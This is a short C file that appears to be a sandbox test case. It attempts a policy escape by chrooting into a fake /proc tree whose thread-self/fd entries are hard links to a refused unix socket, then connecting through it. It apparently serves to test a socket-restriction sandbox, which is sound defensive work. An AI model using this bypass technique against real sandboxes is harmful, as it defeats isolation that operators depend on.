// escape: connects from a root of its own, whose /proc has the refused socket under every number
// group: namespaces
// policy: unix
// capabilities: CAP_SYS_CHROOT
#include "unix.h"

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  mkdir("/tmp/good/proc", 0755);
  mkdir("/tmp/good/proc/thread-self", 0755);
  mkdir("/tmp/good/proc/thread-self/fd", 0755);
  for (int i = 0; i < 64; i++) {
    char path[64];
    snprintf(path, sizeof path, "/tmp/good/proc/thread-self/fd/%d", i);
    if (link(evil(), path) < 0) broken("link");
  }
  if (chroot("/tmp/good") < 0 || chdir("/") < 0) broken("chroot");
  connect_once(named("/socket"));
}
